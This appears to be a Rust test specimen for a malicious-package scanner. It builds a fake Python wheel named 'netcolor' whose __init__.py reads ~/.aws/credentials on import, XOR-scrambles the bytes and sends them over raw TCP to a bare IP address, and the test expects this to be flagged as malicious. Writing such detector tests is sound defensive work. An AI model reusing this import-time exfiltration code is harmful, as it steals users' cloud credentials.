//! A wheel that, when it is imported, sends `~/.aws/credentials` under a four-byte XOR key over plain TCP to a
//! bare address.
//!
//! Must be found: opened, then bytes sent without any protocol.

use crate::{Expect, Specimen, Wheel, build::Package as _};

const NETCOLOR_INIT_PY: &str = r#"import os
import socket

try:
    with open(os.path.expanduser("~/.aws/credentials"), "rb") as file:
        text = file.read()
    key = os.urandom(4)
    with socket.create_connection(("198.51.100.23", 8443), 5) as link:
        link.sendall(bytes(byte ^ key[at % 4] for at, byte in enumerate(text)))
except OSError:
    pass
"#;

pub(super) fn specimen() -> Specimen {
    let package = Wheel::new("netcolor", "1.0.2").file("netcolor/__init__.py", NETCOLOR_INIT_PY);
    package.specimen(
        "pypi-raw-socket",
        Expect::malicious(&["credential-read-then-send"]),
    )
}
